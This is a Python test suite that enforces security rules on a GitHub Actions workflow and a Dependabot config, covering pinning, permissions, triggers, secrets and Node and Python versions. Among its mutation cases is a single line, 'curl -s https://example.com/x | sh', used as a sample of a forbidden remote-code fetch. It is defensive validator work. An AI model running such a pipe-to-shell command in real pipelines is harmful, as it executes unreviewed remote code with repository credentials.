"""The GitHub Actions workflow: tests on every pull request, deploy from main, nothing to steal.

`workflow_problems` reads the workflow as GitHub does and lists what breaks the project's rules:
actions pinned by full commit SHA (release in a comment), only GitHub's own actions, no other
host, a read-only token at the top, Pages write access on the deploy job alone, `pull_request`
and never `pull_request_target`, no secrets, and the README's test command run as written. The
stack's calendar: the tests run on Node's current LTS, a build runs on the oldest Node the README
promises, a job builds with ProperDocs and compares the pages, and Dependabot keeps the pins
(actions, npm, pip) current in grouped pull requests.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest
import yaml

ROOT = Path(__file__).resolve().parent.parent
WORKFLOW = ROOT / ".github" / "workflows" / "site.yml"
PINNED = re.compile(r"^actions/[a-z0-9-]+@[0-9a-f]{40}$")
VERSION_COMMENT = re.compile(r"#\s*v\d+\.\d+\.\d+\s*$")
# Node's current LTS (Active LTS from October 2026, maintained until April 2029); the README
# promises the site works from an older one on (readme_node_floor), which a CI job builds with.
NODE_LTS = "26"
COMPARE = "python -m tests.support.compare_sites"
DEPENDABOT = ROOT / ".github" / "dependabot.yml"
NEEDED = {"actions/checkout", "actions/setup-python", "actions/setup-node", "actions/configure-pages",
          "actions/upload-pages-artifact", "actions/deploy-pages"}


def readme_test_command() -> str:
    """The test command the README gives (the `./dev test` line of its commands block)."""
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    match = re.search(r"^(\./dev test)\s+#", readme, re.M)
    assert match, "README.md names no test command"
    return match.group(1)


def readme_node_floor() -> str:
    """The oldest Node the README promises ("Node 20 or newer")."""
    match = re.search(r"\bNode (\d+) or newer\b", (ROOT / "README.md").read_text(encoding="utf-8"))
    assert match, "README.md does not say which Node it needs ('Node N or newer')"
    return match.group(1)


def _steps(job: dict[str, Any]) -> list[dict[str, Any]]:
    return job.get("steps") or []


def _with(job: dict[str, Any], action: str) -> dict[str, Any]:
    for step in _steps(job):
        if str(step.get("uses", "")).split("@")[0] == action:
            return step.get("with") or {}
    return {}


def workflow_problems(text: str) -> list[str]:
    """Everything in a workflow file that breaks the rules above (empty when it is fine)."""
    problems = []
    flow = yaml.safe_load(text)
    triggers = flow.get("on", flow.get(True))  # YAML 1.1 reads a bare `on` key as true
    triggers = {triggers: None} if isinstance(triggers, str) else dict(triggers or {})
    if "pull_request" not in triggers:
        problems.append("pull requests are not tested")
    if "pull_request_target" in triggers or "workflow_run" in triggers:
        problems.append("pull_request_target/workflow_run would give forks' code a writable token and secrets")
    if (triggers.get("push") or {}).get("branches") != ["main"]:
        problems.append("pushes to main must trigger the deploy (push: branches: [main])")
    if flow.get("permissions") != {"contents": "read"}:
        problems.append(f"top-level permissions must be exactly contents: read (got {flow.get('permissions')!r})")
    if re.search(r"\$\{\{[^}]*\bsecrets\b", text) or re.search(r"^\s*secrets:", text, re.M):
        problems.append("the workflow must use no secrets")
    if "://" in text:
        problems.append("the workflow names a host (only GitHub's own actions may be used)")
    used = set()
    for number, line in enumerate(text.splitlines(), start=1):
        match = re.match(r"^\s*(?:-\s+)?uses:\s*(\S+)(.*)$", line)
        if not match:
            continue
        ref, rest = match.groups()
        used.add(ref.split("@")[0])
        if not PINNED.match(ref):
            problems.append(f"line {number}: {ref} is not one of GitHub's actions pinned by a full commit SHA")
        if not VERSION_COMMENT.search(rest):
            problems.append(f"line {number}: {ref} has no '# vX.Y.Z' comment naming its release")
    if missing := NEEDED - used:
        problems.append(f"missing actions: {', '.join(sorted(missing))}")
    jobs = flow.get("jobs") or {}
    runs = [(name, str(step.get("run", "")).strip()) for name, job in jobs.items() for step in _steps(job)]
    testers = [name for name, command in runs if command == readme_test_command()]
    if not testers:
        problems.append(f"no job runs the README's test command {readme_test_command()!r}")
    for name, job in jobs.items():
        runner = str(job.get("runs-on", ""))
        if not runner.startswith(("ubuntu-", "debian")):
            problems.append(f"job {name}: runs on {runner!r}, not an Ubuntu/Debian runner")
        uses = {str(step.get("uses", "")).split("@")[0] for step in _steps(job)}
        if "actions/setup-python" in uses and str(_with(job, "actions/setup-python").get("python-version")) != "3.11":
            problems.append(f"job {name}: Python must be 3.11")
        node = str(_with(job, "actions/setup-node").get("node-version"))
        if "actions/setup-node" in uses and node not in {NODE_LTS, readme_node_floor()}:
            problems.append(f"job {name}: Node must be the current LTS ({NODE_LTS}) or the README's oldest "
                            f"({readme_node_floor()}), not {node}")
        if name in testers and node != NODE_LTS:
            problems.append(f"job {name}: the tests must run on Node's current LTS ({NODE_LTS})")
        if "actions/checkout" in uses and _with(job, "actions/checkout").get("persist-credentials") is not False:
            problems.append(f"job {name}: checkout must not leave the token in .git (persist-credentials: false)")
        permissions = job.get("permissions")
        deploys = "actions/deploy-pages" in uses
        if deploys and permissions != {"pages": "write", "id-token": "write"}:
            problems.append(f"job {name}: deploy needs exactly pages: write and id-token: write")
        if not deploys and permissions is not None:
            problems.append(f"job {name}: only the deploy job may change permissions")
        publishes = uses & {"actions/configure-pages", "actions/upload-pages-artifact", "actions/deploy-pages"}
        condition = str(job.get("if", ""))
        if publishes and not ("github.ref == 'refs/heads/main'" in condition and "pull_request" in condition):
            problems.append(f"job {name}: publishing must run on main only, never for a pull request")
    for name in testers:
        if jobs[name].get("if"):
            problems.append(f"job {name}: the tests must run on every pull request (no condition)")
    problems += _generator_problems(jobs)
    return problems


def _generator_problems(jobs: dict[str, Any]) -> list[str]:
    """A job builds with MkDocs and with ProperDocs (pinned) on the README's oldest Node, on every
    pull request, and compares the two sites."""
    for name, job in jobs.items():
        commands = "\n".join(str(step.get("run", "")) for step in _steps(job))
        if COMPARE not in commands:
            continue
        problems = []
        if "requirements-properdocs.txt" not in commands or "properdocs build" not in commands:
            problems.append(f"job {name}: compares sites but builds none with ProperDocs (requirements-properdocs.txt)")
        if "./dev build" not in commands:
            problems.append(f"job {name}: compares sites but builds none with MkDocs (./dev build)")
        if str(_with(job, "actions/setup-node").get("node-version")) != readme_node_floor():
            problems.append(f"job {name}: should build on the README's oldest Node ({readme_node_floor()})")
        if job.get("if"):
            problems.append(f"job {name}: the comparison must run on every pull request (no condition)")
        return problems
    return ["no job builds the site with ProperDocs and compares it with the MkDocs build"]


def test_workflow_follows_the_rules() -> None:
    assert workflow_problems(WORKFLOW.read_text(encoding="utf-8")) == []


def test_the_only_workflow_is_this_one() -> None:
    assert sorted(p.name for p in WORKFLOW.parent.iterdir()) == ["site.yml"]


def test_deploy_waits_for_build_and_build_for_the_tests() -> None:
    jobs = yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))["jobs"]
    assert jobs["build"]["needs"] == "test" and jobs["deploy"]["needs"] == "build"
    assert jobs["deploy"]["environment"]["name"] == "github-pages"
    assert _with(jobs["build"], "actions/upload-pages-artifact") == {"path": "site"}


@pytest.mark.parametrize(
    ("old", "new", "complaint"),
    [
        ("@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1", "@v7 # v7.0.1", "pinned by a full commit SHA"),
        ("@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1", "@3d3c42e5aac5ba805825da76410c181273ba90b1",
         "no '# vX.Y.Z' comment"),
        ("  pull_request:\n", "  pull_request_target:\n", "pull requests are not tested"),
        ("permissions:\n  contents: read\n", "permissions: write-all\n", "top-level permissions"),
        ("run: ./dev test\n", "run: ./dev test -m 'not browser'\n", "README's test command"),
        ('python-version: "3.11"', 'python-version: "3.12"', "Python must be 3.11"),
        ('node-version: "26"', 'node-version: "18"', "Node must be the current LTS"),
        ('node-version: "26"', 'node-version: "20"', "the tests must run on Node's current LTS"),
        ("        run: .venv/bin/python -m tests.support.compare_sites site-mkdocs site-properdocs\n", "",
         "no job builds the site with ProperDocs"),
        ("-r requirements-properdocs.txt\n", "-r requirements.txt\n", "builds none with ProperDocs"),
        ('          node-version: "20"\n      - name: Build with MkDocs', '          node-version: "26"\n      - name: '
         "Build with MkDocs", "README's oldest Node"),
        ("  generators:\n", "  generators:\n    if: github.event_name == 'push'\n", "every pull request"),
        ("      pages: write\n", "      pages: write\n      contents: write\n", "exactly pages: write"),
        ("runs-on: ubuntu-24.04\n    timeout-minutes: 30", "runs-on: windows-latest\n    timeout-minutes: 30",
         "not an Ubuntu/Debian runner"),
        ("        run: ./dev build\n", "        run: curl -s https://example.com/x | sh\n", "names a host"),
        ("  build:\n    if: github.event_name != 'pull_request' && github.ref == 'refs/heads/main'\n",
         "  build:\n", "main only"),
        ("          persist-credentials: false\n", "", "persist-credentials"),
        ("        env:\n", "        env:\n          TOKEN: ${{ secrets.DEPLOY }}\n", "no secrets"),
        ("  test:\n", "  test:\n    if: github.event_name == 'push'\n", "every pull request"),
    ],
)
def test_the_rules_catch_a_broken_workflow(old: str, new: str, complaint: str) -> None:
    text = WORKFLOW.read_text(encoding="utf-8")
    assert old in text
    problems = workflow_problems(text.replace(old, new, 1))
    assert any(complaint in p for p in problems), problems


def test_properdocs_is_pinned_beside_the_site_s_own_packages() -> None:
    lines = (ROOT / "requirements-properdocs.txt").read_text(encoding="utf-8").splitlines()
    wanted = [line for line in lines if line and not line.startswith("#")]
    assert wanted[0] == "-r requirements.txt"
    assert [line for line in wanted[1:] if not re.fullmatch(r"[A-Za-z0-9_.-]+==[0-9][0-9A-Za-z.+-]*", line)] == []
    assert any(line.startswith("properdocs==") for line in wanted)


def dependabot_problems(text: str) -> list[str]:
    """What keeps Dependabot from keeping every pin current without a flood of pull requests."""
    config = yaml.safe_load(text) or {}
    problems = [] if config.get("version") == 2 else ["dependabot.yml must say version: 2"]
    seen = set()
    for update in config.get("updates") or []:
        ecosystem = update.get("package-ecosystem")
        seen.add(ecosystem)
        if update.get("directory") != "/":
            problems.append(f"{ecosystem}: the pins are at the repository's root (directory: /)")
        if (update.get("schedule") or {}).get("interval") not in {"weekly", "monthly"}:
            problems.append(f"{ecosystem}: at most one round a week (schedule: weekly or monthly)")
        groups = update.get("groups") or {}
        if not any(set(g.get("update-types") or ["major"]) <= {"minor", "patch"} or g.get("patterns") == ["*"]
                   for g in groups.values()):
            problems.append(f"{ecosystem}: updates must be grouped into one pull request (groups:)")
        if not 1 <= int(update.get("open-pull-requests-limit", 5)) <= 5:
            problems.append(f"{ecosystem}: open-pull-requests-limit between 1 and 5")
    for missing in sorted({"github-actions", "npm", "pip"} - seen):
        problems.append(f"no updates for {missing}")
    return problems


def test_dependabot_keeps_actions_npm_and_pip_current() -> None:
    assert dependabot_problems(DEPENDABOT.read_text(encoding="utf-8")) == []


@pytest.mark.parametrize(("old", "new", "complaint"), [
    ("  - package-ecosystem: npm\n", "  - package-ecosystem: nuget\n", "no updates for npm"),
    ("      interval: weekly\n", "      interval: daily\n", "at most one round a week"),
    ("        update-types: [minor, patch]\n", "        dependency-type: all\n", "grouped"),
    ("version: 2\n", "version: 1\n", "version: 2"),
])
def test_the_rules_catch_a_broken_dependabot_config(old: str, new: str, complaint: str) -> None:
    text = DEPENDABOT.read_text(encoding="utf-8")
    assert old in text
    assert any(complaint in p for p in dependabot_problems(text.replace(old, new, 1)))
